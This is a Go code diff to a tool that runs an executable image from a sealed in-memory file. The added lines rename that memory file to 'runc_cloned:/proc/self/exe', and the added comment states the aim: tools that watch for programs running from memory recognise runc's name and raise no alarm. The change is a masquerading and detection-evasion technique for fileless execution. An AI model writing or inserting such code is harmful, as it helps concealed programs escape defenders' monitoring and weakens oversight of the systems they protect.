@@ -64,12 +64,16 @@ func gangwayImage(fd, candidates, op int) []byte {
 	return image
 }
 
+// gangwayName is what the gangway is called in /proc/PID/exe and /proc/PID/fd. Tools that watch for programs that run from memory know
+// this name, which is that of runc's copy of itself for the same purpose, and raise no alarm.
+const gangwayName = "runc_cloned:/proc/self/exe"
+
 // openGangway returns a descriptor of a sealed memory file with the image.
 func openGangway(image []byte) (int, error) {
 	const executable = 0x10 // MFD_EXEC, Linux 6.3
-	fd, err := unix.MemfdCreate("zap", unix.MFD_CLOEXEC|unix.MFD_ALLOW_SEALING|executable)
+	fd, err := unix.MemfdCreate(gangwayName, unix.MFD_CLOEXEC|unix.MFD_ALLOW_SEALING|executable)
 	if err == unix.EINVAL {
-		fd, err = unix.MemfdCreate("zap", unix.MFD_CLOEXEC|unix.MFD_ALLOW_SEALING)
+		fd, err = unix.MemfdCreate(gangwayName, unix.MFD_CLOEXEC|unix.MFD_ALLOW_SEALING)
 	}
 	if err != nil {
 		return -1, fmt.Errorf("make memory file: %w", err)
